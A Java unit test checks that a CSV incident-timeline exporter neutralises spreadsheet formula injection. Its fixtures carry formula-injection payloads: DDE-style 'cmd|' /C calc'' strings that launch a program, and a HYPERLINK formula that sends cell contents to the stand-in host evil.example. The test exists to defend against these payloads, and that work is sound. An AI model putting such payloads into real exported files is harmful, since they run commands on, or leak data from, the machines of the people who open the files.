package io.connguard.audit.incident;

import static io.connguard.audit.incident.StoredEvents.event;
import static org.assertj.core.api.Assertions.assertThat;

import io.connguard.events.EventType;
import java.util.List;
import org.junit.jupiter.api.Test;

class TimelineCsvTest {

    private static final String PRESSURE = EventType.PRESSURE_CHANGED.type();
    private static final String ACTION = EventType.ACTION.type();

    @Test
    void cellsThatASpreadsheetWouldRunAsAFormulaAreTextAndNumbersStayNumbers() {
        Timeline timeline = StoredEvents.timeline(
                "inc-1",
                "orders-db",
                List.of(
                        event(1, "p-1", PRESSURE, -200, """
                                {"level": "@SUM(1+1)*cmd|' /C calc'!A0", "ratio": 0.95,
                                 "connections": {"total": 95}, "capacity": {"usable": 100},
                                 "reason": "ratio_above_critical"}
                                """),
                        event(2, "a-1", ACTION, 150, """
                                {"actionId": "\\r=1+1", "action": "=HYPERLINK(\\"https://evil.example/?d=\\"&A1,\\"open\\")",
                                 "outcome": "SUCCEEDED", "mode": "\\tENFORCE", "causationId": "p-1", "reason": "r",
                                 "command": {"system": "postgres", "text": "-2+3", "target": "1"}}
                                """),
                        event(3, "@evil", "=cmd|' /C calc'!A0", 1_000, "{}")));

        assertThat(TimelineCsv.render(timeline).split("\r\n", -1))
                .containsExactly(
                        "seq,time,since_onset_ms,kind,type,level,ratio,connections,capacity,action_id,action,outcome,"
                                + "mode,command,caused_by_seq,summary,id",
                        "1,2026-03-14T09:26:49.800Z,-200,PRESSURE," + PRESSURE + ",\"'@SUM(1+1)*cmd|' /C calc'!A0\","
                                + "0.95,95,100,,,,,,,\"'@SUM(1+1)*cmd|' /C calc'!A0: 95/100 connections, ratio 0.95"
                                + " - ratio_above_critical\",p-1",
                        "2,2026-03-14T09:26:50.150Z,150,ACTION," + ACTION + ",,,,,\"'\r=1+1\","
                                + "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"open\"\")\",SUCCEEDED,"
                                + "\"'\tENFORCE\",\"'-2+3\",1,"
                                + "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"open\"\") SUCCEEDED: -2+3 - r\",a-1",
                        "3,2026-03-14T09:26:51Z,1000,OTHER,\"'=cmd|' /C calc'!A0\",,,,,,,,,,,"
                                + "\"'=cmd|' /C calc'!A0\",\"'@evil\"",
                        "");
    }
}
